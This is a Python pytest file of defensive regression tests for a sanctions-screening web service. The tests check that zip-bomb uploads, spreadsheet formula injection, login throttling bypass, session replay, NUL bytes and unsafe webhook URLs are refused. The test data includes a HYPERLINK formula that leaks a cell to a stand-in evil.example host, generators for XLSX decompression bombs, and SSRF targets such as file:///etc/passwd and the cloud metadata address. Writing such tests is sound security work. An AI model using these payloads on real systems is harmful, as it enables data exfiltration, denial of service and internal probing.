"""The attacks that got through (issue 13 part 1), each reproduced over real HTTP or on the
real writers, and refused."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
import sqlalchemy as sa
from tests.service.conftest import PASSWORD, Server, seed, start_server, stop_server
from tests.service.data import BASE, feed

from chainwatch.api.settings import ServiceSettings
from chainwatch.model.errors import InputError
from chainwatch.store.engine import open_engine
from chainwatch.store.lists import ListStore
from chainwatch.workflows.counterparties import read_counterparties

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Hikvision")'
LISTED_EVIL = "=Hangzhou Hikvision Digital Technology"  # a formula-like name with hits


# -- helpers -----------------------------------------------------------------------------------


def _workbook(path: Path, rows: list[list[str]]) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def _replace_member(path: Path, member: str, chunks: Iterator[bytes]) -> Path:
    """Rewrite an XLSX with `member` replaced by the streamed `chunks` (deflated)."""
    out = path.with_name("bomb-" + path.name)
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename == member:
                continue
            dst.writestr(info, src.read(info.filename))
        info = zipfile.ZipInfo(member)
        info.compress_type = zipfile.ZIP_DEFLATED
        with dst.open(info, "w", force_zip64=True) as fh:
            for chunk in chunks:
                fh.write(chunk)
    return out


def _row_bomb(rows: int) -> Iterator[bytes]:
    yield b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    yield b'<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
    block = b"".join(
        b'<row><c t="inlineStr"><is><t>ACME Widgets</t></is></c></row>' for _ in range(1000)
    )
    for _ in range(rows // 1000):
        yield block
    yield b"</sheetData></worksheet>"


def _shared_string_bomb(size: int) -> Iterator[bytes]:
    yield (
        b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main" count="2" uniqueCount="2"><si><t>name</t></si><si><t>'
    )
    chunk = b"A" * 1_000_000
    for _ in range(size // len(chunk)):
        yield chunk
    yield b"</t></si></sst>"


def _login(server: Server, username: str, password: str = PASSWORD) -> httpx.Client:
    browser = httpx.Client(base_url=server.url, timeout=30)
    page = browser.get("/login").text
    token = page.split('name="csrf_token" value="')[1].split('"')[0]
    done = browser.post(
        "/login", data={"username": username, "password": password, "csrf_token": token}
    )
    assert done.status_code == 303, done.text
    return browser


def _csrf(browser: httpx.Client, path: str = "/") -> str:
    page = browser.get(path).text
    return page.split('name="csrf-token" content="')[1].split('"')[0]


@pytest.fixture(scope="module")
def hardened(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A SQLite server with four-eyes on, a small row limit and tight login limits."""
    tmp = tmp_path_factory.mktemp("hardened")
    db = f"sqlite:///{tmp / 'store.db'}"
    keys = seed(db)
    settings = {
        "four_eyes_true_match": True,
        "batch_max_rows": 1000,
        "login_max_failures": 5,
        "login_max_failures_per_address": 8,
        "trust_forwarded_for": True,
    }
    server = start_server(db, tmp, settings)
    server.keys = keys
    with server.client("admin") as admin:
        made = admin.post(
            "/api/v1/users", json={"username": "analyst2", "password": PASSWORD, "role": "analyst"}
        )
        assert made.status_code == 201, made.text
    yield server
    stop_server(server)


def _open_case(server: Server, name: str) -> dict[str, Any]:
    with server.client("analyst") as client:
        added = client.post("/api/v1/counterparties", json={"name": name, "country": "CN"})
        assert added.status_code == 201, added.text
        [case_id] = added.json()["cases_opened"][:1]
        return dict(client.get(f"/api/v1/cases/{case_id}").json())


# -- XLSX bombs --------------------------------------------------------------------------------


def test_xlsx_row_bomb_is_refused_before_parsing(hardened: Server, tmp_path: Path) -> None:
    base = _workbook(tmp_path / "parties.xlsx", [["name"], ["ACME"]])
    bomb = _replace_member(base, "xl/worksheets/sheet1.xml", _row_bomb(300_000))
    assert bomb.stat().st_size < 500_000  # a small upload that unpacks to ~18 MB
    with hardened.client("analyst") as client:
        response = client.post(
            "/api/v1/batches", files={"file": ("parties.xlsx", bomb.read_bytes())}
        )
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert "zip bomb" in error and "parties.xlsx" in error and "sheet1.xml" in error


def test_xlsx_shared_string_bomb_is_refused(hardened: Server, tmp_path: Path) -> None:
    base = _workbook(tmp_path / "strings.xlsx", [["name"], ["ACME"]])
    bomb = _replace_member(base, "xl/sharedStrings.xml", _shared_string_bomb(30_000_000))
    assert bomb.stat().st_size < 200_000
    with hardened.client("analyst") as client:
        response = client.post(
            "/api/v1/batches", files={"file": ("strings.xlsx", bomb.read_bytes())}
        )
    assert response.status_code == 400, response.text
    assert "shared strings" in response.json()["error"]


def test_network_xlsx_bomb_is_refused(hardened: Server, tmp_path: Path) -> None:
    base = _workbook(tmp_path / "network.xlsx", [["id", "name"], ["CAM", "Camera"]])
    bomb = _replace_member(base, "xl/sharedStrings.xml", _shared_string_bomb(30_000_000))
    with hardened.client("analyst") as client:
        response = client.post(
            "/api/v1/networks",
            files={"file": ("network.xlsx", bomb.read_bytes())},
            data={"name": "bomb"},
        )
    assert response.status_code == 400, response.text
    assert "shared strings" in response.json()["error"]


def test_rows_are_streamed_and_stop_at_the_limit(tmp_path: Path) -> None:
    from chainwatch.workflows.counterparties import TooManyRows

    path = _workbook(tmp_path / "many.xlsx", [["name"]] + [[f"Party {i}"] for i in range(300)])
    with pytest.raises(TooManyRows) as caught:
        read_counterparties(path, max_rows=50)
    assert caught.value.row == 52 and "more than 50 rows" in str(caught.value)
    assert len(read_counterparties(path, max_rows=300)) == 300


def test_too_many_rows_over_http_is_413(hardened: Server, tmp_path: Path) -> None:
    path = _workbook(tmp_path / "big.xlsx", [["name"]] + [[f"Party {i}"] for i in range(1200)])
    with hardened.client("analyst") as client:
        response = client.post("/api/v1/batches", files={"file": ("big.xlsx", path.read_bytes())})
    assert response.status_code == 413 and "more than 1,000 rows" in response.json()["error"]


# -- lost decisions ----------------------------------------------------------------------------


def test_a_stale_decision_is_refused_and_shows_what_changed(hardened: Server) -> None:
    case = _open_case(hardened, "Zhejiang Dahua Technology")
    seen = case["version"]
    first = _login(hardened, "analyst")
    second = _login(hardened, "analyst2")
    # both analysts opened the case at the same version; the first decides true match
    decided = first.post(
        f"/cases/{case['id']}/decide",
        data={
            "status": "true_match",
            "reason": "same company, same address",
            "version": seen,
            "csrf_token": _csrf(first),
        },
    )
    assert decided.status_code == 303
    # the second analyst's form is stale: refused, with what the case is now
    stale = second.post(
        f"/cases/{case['id']}/decide",
        data={
            "status": "false_positive",
            "reason": "a bakery in Ohio",
            "version": seen,
            "csrf_token": _csrf(second),
        },
    )
    assert stale.status_code == 409
    assert 'id="conflict"' in stale.text and "true match" in stale.text
    assert "a bakery in Ohio" in stale.text  # their reason is kept in the form
    with hardened.client("analyst") as client:
        api = client.post(
            f"/api/v1/cases/{case['id']}/decision",
            json={"status": "false_positive", "reason": "stale API client", "version": seen},
        )
        assert api.status_code == 409 and api.json()["current"]["status"] == "true_match"
        now = client.get(f"/api/v1/cases/{case['id']}").json()
    assert now["status"] == "true_match" and now["reviewer"] == "analyst"
    assert now["version"] == seen + 1
    with hardened.client("admin") as admin:
        records = admin.get("/api/v1/audit", params={"newest_first": True, "limit": 50}).json()
    decided_records = [r for r in records if r["target"] == f"case:{case['id']}"]
    assert [r["action"] for r in decided_records] == ["case.decided"]  # the refused left none


def test_four_eyes_clearing_a_true_match(hardened: Server) -> None:
    case = _open_case(hardened, "Huawei Technologies")
    with hardened.client("analyst") as key:
        done = key.post(
            f"/api/v1/cases/{case['id']}/decision",
            json={"status": "true_match", "reason": "listed parent", "version": case["version"]},
        )
        assert done.status_code == 200
        version = done.json()["version"]
    first = _login(hardened, "analyst")
    token = _csrf(first)
    data = {"status": "false_positive", "reason": "a different Huawei", "csrf_token": token}
    asked = first.post(f"/cases/{case['id']}/decide", data={**data, "version": version})
    assert asked.status_code == 303
    with hardened.client("viewer") as viewer:
        now = viewer.get(f"/api/v1/cases/{case['id']}").json()
    assert now["status"] == "true_match" and now["pending_status"] == "false_positive"
    again = first.post(f"/cases/{case['id']}/decide", data={**data, "version": now["version"]})
    assert again.status_code == 409 and "another analyst" in again.text
    second = _login(hardened, "analyst2")
    confirmed = second.post(
        f"/cases/{case['id']}/decide",
        data={**data, "csrf_token": _csrf(second), "version": now["version"]},
    )
    assert confirmed.status_code == 303
    with hardened.client("viewer") as viewer:
        final = viewer.get(f"/api/v1/cases/{case['id']}").json()
    assert final["status"] == "false_positive" and final["reviewer"] == "analyst2"
    actions = [e["action"] for e in final["history"]]
    assert actions[-2:] == ["clear_requested", "decided"]


# -- formula injection -------------------------------------------------------------------------


def test_formula_names_stay_text_in_exports(hardened: Server) -> None:
    with hardened.client("analyst") as client:
        added = client.post("/api/v1/counterparties", json={"name": LISTED_EVIL})
        assert added.status_code == 201
        party = added.json()["counterparty_id"]
        params = {"counterparty_id": party, "status": "all"}
        as_csv = client.get("/api/v1/cases/export", params={**params, "format": "csv"})
        as_xlsx = client.get("/api/v1/cases/export", params={**params, "format": "xlsx"})
    assert as_csv.status_code == 200 and as_xlsx.status_code == 200
    rows = list(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert rows and all(r["counterparty"] == "'" + LISTED_EVIL for r in rows)
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == LISTED_EVIL]
    assert cells and all(c.data_type == "s" for c in cells)


def test_formula_names_stay_text_in_exposure_and_hits_files(tmp_path: Path) -> None:
    from chainwatch.workflows.network import _write_csv, _write_xlsx
    from chainwatch.workflows.screening import Screener, screen_file

    rows = [{"party": EVIL, "share": -0.5, "note": "+1 555", "at": "@home"}]
    _write_xlsx(tmp_path / "exposure.xlsx", {"parties": rows}, {"title": EVIL})
    book = openpyxl.load_workbook(tmp_path / "exposure.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    assert book["parties"]["A2"].value == EVIL and book["parties"]["B2"].value == -0.5
    _write_csv(tmp_path / "parties.csv", rows)
    [written] = list(csv.DictReader((tmp_path / "parties.csv").open(encoding="utf-8")))
    assert written == {"party": "'" + EVIL, "share": "-0.5", "note": "'+1 555", "at": "'@home"}

    store = ListStore(open_engine(f"sqlite:///{tmp_path / 'lists.db'}"))
    store.load(feed(*BASE))
    parties = tmp_path / "parties-in.csv"
    parties.write_text(f"name\n{LISTED_EVIL}\n")
    screen_file(Screener(store), parties, tmp_path / "hits.csv")
    hits = list(csv.DictReader((tmp_path / "hits.csv").open(encoding="utf-8")))
    assert hits and all(h["query"].startswith("'=") for h in hits)


# -- login throttling --------------------------------------------------------------------------


def _attempt(browser: httpx.Client, token: str, user: str, hop: str) -> int:
    data = {"username": user, "password": "not the password", "csrf_token": token}
    headers = {"X-Forwarded-For": f"{hop}, 203.0.113.9"}  # the client wrote the left hop
    return browser.post("/login", data=data, headers=headers).status_code


def test_rotating_forwarded_for_does_not_rotate_the_address(hardened: Server) -> None:
    with httpx.Client(base_url=hardened.url, timeout=30) as browser:
        token = browser.get("/login").text.split('name="csrf_token" value="')[1].split('"')[0]
        codes = [_attempt(browser, token, "admin", f"10.1.0.{i}") for i in range(6)]
    assert codes == [200] * 5 + [429]


def test_many_usernames_from_one_address_are_blocked(hardened: Server) -> None:
    with httpx.Client(base_url=hardened.url, timeout=30) as browser:
        token = browser.get("/login").text.split('name="csrf_token" value="')[1].split('"')[0]
        codes = [_attempt(browser, token, f"guess{i}", f"10.2.0.{i}") for i in range(60)]
    assert 429 in codes and codes.index(429) <= 8, codes
    with hardened.client("admin") as admin:
        records = admin.get("/api/v1/audit", params={"newest_first": True, "limit": 20}).json()
    assert any(r["action"] == "login.failed" and r["target"].startswith("guess") for r in records)


def test_client_address_is_the_rightmost_untrusted_hop() -> None:
    from starlette.requests import Request

    from chainwatch.api.deps import client_address

    def request(forwarded: str) -> Request:
        headers = [(b"x-forwarded-for", forwarded.encode())] if forwarded else []
        return Request({"type": "http", "headers": headers, "client": ("10.9.9.9", 1)})

    assert client_address(request("1.1.1.1, 2.2.2.2, 3.3.3.3"), 0) == "10.9.9.9"
    assert client_address(request("1.1.1.1, 2.2.2.2, 3.3.3.3"), 1) == "3.3.3.3"
    assert client_address(request("1.1.1.1, 2.2.2.2, 3.3.3.3"), 2) == "2.2.2.2"
    assert client_address(request("3.3.3.3"), 5) == "3.3.3.3"  # fewer hops than proxies
    assert client_address(request(""), 1) == "10.9.9.9"


# -- sessions ----------------------------------------------------------------------------------


def test_sessions_end_on_logout_and_on_password_change(hardened: Server) -> None:
    browser = _login(hardened, "analyst2")
    copied = dict(browser.cookies)
    assert browser.get("/api/v1/me").status_code == 200
    out = browser.post("/logout", data={"csrf_token": _csrf(browser)})
    assert out.status_code == 303
    with httpx.Client(base_url=hardened.url, cookies=copied, timeout=30) as replay:
        assert replay.get("/api/v1/me").status_code == 401  # the copied cookie is dead

    browser = _login(hardened, "viewer")
    copied = dict(browser.cookies)
    with hardened.client("admin") as admin:
        changed = admin.patch("/api/v1/users/viewer", json={"password": PASSWORD + "!"})
        assert changed.status_code == 200
        admin.patch("/api/v1/users/viewer", json={"password": PASSWORD})
    with httpx.Client(base_url=hardened.url, cookies=copied, timeout=30) as replay:
        assert replay.get("/api/v1/me").status_code == 401
        assert replay.get("/cases").status_code in (303, 307)


def test_the_session_secret_is_not_in_the_database(hardened: Server, tmp_path: Path) -> None:
    db = hardened.db_url.removeprefix("sqlite:///")
    with sqlite3.connect(db) as conn:
        keys = [k for (k,) in conn.execute("SELECT key FROM state")]
    assert "session_secret" not in keys
    secret_file = Path(db).parent / "session-secret"
    assert secret_file.exists() and stat.S_IMODE(secret_file.stat().st_mode) == 0o600

    from chainwatch.api.app import session_secret
    from chainwatch.model.errors import ChainwatchError

    loose = tmp_path / "loose-secret"
    loose.write_text("x" * 64)
    os.chmod(loose, 0o644)
    with pytest.raises(ChainwatchError, match="chmod 600"):
        session_secret(ServiceSettings(session_secret_file=str(loose)))


# -- bad text and database errors ---------------------------------------------------------------


def test_nul_bytes_are_refused_with_422(hardened: Server) -> None:
    with hardened.client("analyst") as client:
        for path, body in (
            ("/api/v1/counterparties", {"name": "ACME\u0000 Ltd"}),
            ("/api/v1/screen", {"name": "ACME", "country": "C\u0000N"}),
            ("/api/v1/counterparties", {"name": "ACME", "identifiers": ["ok", "bad\u0001"]}),
        ):
            response = client.post(path, json=body)
            assert response.status_code == 422, response.text
            assert "NUL" in response.json()["error"] or "control" in response.json()["error"]
        listed = client.get("/api/v1/cases", params={"q": "a\u0000b"})
        assert listed.status_code == 422
        upload = client.post(
            "/api/v1/batches",
            files={"file": ("parties.csv", "name,country\nACME,DE\nBad\u0000Name,CN\n".encode())},
        )
        assert upload.status_code == 400
        assert "row 3" in upload.json()["error"] and "'name'" in upload.json()["error"]
    browser = _login(hardened, "analyst")
    form = browser.post(
        "/counterparties", data={"name": "ACME\u0000", "csrf_token": _csrf(browser)}
    )
    assert form.status_code == 422


def test_a_failed_batch_does_not_show_database_errors(tmp_path: Path) -> None:
    from chainwatch.model.screening import Query
    from chainwatch.workflows.audit import AuditLog
    from chainwatch.workflows.batch_job import run_batch
    from chainwatch.workflows.cases import CaseService
    from chainwatch.workflows.jobs import JobRunner, Progress

    engine = open_engine(f"sqlite:///{tmp_path / 'broken.db'}")
    audit = AuditLog(engine)
    jobs = JobRunner(engine)
    job_id = jobs.new_job("batch", 1, "tests")
    with engine.begin() as conn:
        conn.execute(sa.text("DROP TABLE counterparty_tokens"))

    def work(progress: Progress) -> Any:
        live: Any = None  # never reached: storing the counterparties fails first
        return run_batch(
            progress, [Query(name="ACME")], ["2"], "test", live, CaseService(engine, audit), "t"
        )

    jobs.run(job_id, work)
    job = jobs.job(job_id)
    assert job is not None and job["status"] == "failed"
    assert "reference" in job["message"]
    for leak in ("INSERT", "counterparty_tokens", "sqlite", "SQL"):
        assert leak not in job["message"], job["message"]


# -- outbound URLs and the content security policy ----------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "ftp://mirror.example.com/lists/",
        "gopher://x",
        "http://hooks.example.com/x",
        "https://169.254.169.254/latest/meta-data/",
        "https://10.0.0.5/hook",
        "https://[fd00::1]/hook",
        "https://user:pw@hooks.example.com/",
    ],
)
def test_unsafe_outbound_urls_are_refused_at_configuration(url: str) -> None:
    with pytest.raises(ValueError, match=r"https|internal|credentials"):
        ServiceSettings(webhook_url=url)
    with pytest.raises(ValueError):
        ServiceSettings(download_base_url=url)


def test_safe_outbound_urls_are_accepted() -> None:
    for url in (
        "https://hooks.example.com/chainwatch",
        "http://127.0.0.1:8080/",
        "http://localhost/",
    ):
        assert ServiceSettings(webhook_url=url).webhook_url == url


def test_watch_refuses_a_file_base_url(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from chainwatch.cli.main import app

    result = CliRunner().invoke(
        app,
        ["watch", "--base-url", "file:///etc/", "--db", f"sqlite:///{tmp_path / 'w.db'}"],
    )
    assert result.exit_code != 0 and "only https://" in result.output


def test_csp_allows_only_our_scripts_and_docs_are_local(hardened: Server) -> None:
    with httpx.Client(base_url=hardened.url, timeout=30) as client:
        for path in ("/login", "/docs"):
            policy = client.get(path).headers["content-security-policy"]
            assert "script-src 'self';" in policy and "http" not in policy, policy
        docs = client.get("/docs").text
        assert "cdn" not in docs.lower() and "<script>" not in docs
        for asset in ("/static/docs/swagger-ui-bundle.js", "/static/docs/swagger-ui.css"):
            assert client.get(asset).status_code == 200, asset


def test_csv_round_trip_of_escaped_text(tmp_path: Path) -> None:
    from chainwatch.text.spreadsheets import csv_cell, csv_uncell

    for text in (EVIL, "+49 30", "-dash", "@at", "\tTab", "plain", "'quoted"):
        assert csv_uncell(str(csv_cell(text))) == text
    assert csv_cell(-1.5) == -1.5
    with pytest.raises(InputError):
        bad = tmp_path / "bad.csv"
        bad.write_text("name\nok\nx\u0007y\n")
        read_counterparties(bad)


def test_nul_bytes_on_every_store(server: Server) -> None:
    """On PostgreSQL a NUL reached the database and failed (500) the request or the whole
    batch; on every store it is now a 422 (or a 400 naming the row) before any write."""
    with server.client("analyst") as client:
        before = client.get("/api/v1/counterparties", params={"limit": 1000}).json()
        response = client.post("/api/v1/counterparties", json={"name": "Hikvision\u0000"})
        assert response.status_code == 422 and "NUL" in response.json()["error"]
        upload = client.post(
            "/api/v1/batches",
            files={"file": ("p.csv", "name\nACME\nHik\u0000vision\n".encode())},
        )
        assert upload.status_code == 400 and "row 3" in upload.json()["error"]
        after = client.get("/api/v1/counterparties", params={"limit": 1000}).json()
    assert after == before  # nothing of the bad batch was stored


def test_changing_ones_own_password_ends_every_session(hardened: Server) -> None:
    one = _login(hardened, "analyst2")
    other = _login(hardened, "analyst2")
    wrong = one.post(
        "/account/password",
        data={"current": "not it", "new": "another long one", "csrf_token": _csrf(one)},
    )
    assert wrong.status_code == 400 and "current password is wrong" in wrong.text
    done = one.post(
        "/account/password",
        data={"current": PASSWORD, "new": "another long one", "csrf_token": _csrf(one)},
    )
    assert done.status_code == 303
    assert other.get("/api/v1/me").status_code == 401
    assert one.get("/api/v1/me").status_code == 401
    with hardened.client("admin") as admin:
        assert admin.patch("/api/v1/users/analyst2", json={"password": PASSWORD}).status_code == 200


def test_form_errors_are_pages_in_the_browser(hardened: Server) -> None:
    browser = _login(hardened, "viewer")
    html = {"Accept": "text/html,application/xhtml+xml"}
    bad_filter = browser.get("/cases", params={"score_min": "lots"}, headers=html)
    assert bad_filter.status_code == 422 and 'id="form-error"' in bad_filter.text
    assert "score_min" in bad_filter.text
    not_allowed = browser.post(
        "/cases/1/decide",
        data={"status": "true_match", "reason": "x", "version": 1, "csrf_token": _csrf(browser)},
        headers=html,
    )
    assert not_allowed.status_code == 403 and 'id="form-error"' in not_allowed.text
    api = browser.get("/api/v1/cases", params={"score_min": "lots"}, headers=html)
    assert api.status_code == 422 and api.json()["error"]  # the API stays JSON


def test_formula_names_stay_text_in_batch_downloads(hardened: Server) -> None:
    import time

    with hardened.client("analyst") as client:
        started = client.post(
            "/api/v1/batches",
            files={"file": ("evil.csv", f"name\n{LISTED_EVIL} Co Ltd\nACME\n".encode())},
        )
        assert started.status_code == 202, started.text
        job_id = started.json()["job_id"]
        deadline = time.monotonic() + 60
        while client.get(f"/api/v1/jobs/{job_id}").json()["status"] not in ("done", "failed"):
            assert time.monotonic() < deadline
            time.sleep(0.1)
        as_csv = client.get(f"/jobs/{job_id}/hits.csv")
        as_xlsx = client.get(f"/jobs/{job_id}/hits.xlsx")
    assert as_csv.status_code == 200 and as_xlsx.status_code == 200
    rows = list(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert rows and rows[0]["query"] == f"'{LISTED_EVIL} Co Ltd"
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet is not None
    query = sheet.cell(row=2, column=2)
    assert query.value == f"{LISTED_EVIL} Co Ltd" and query.data_type == "s"
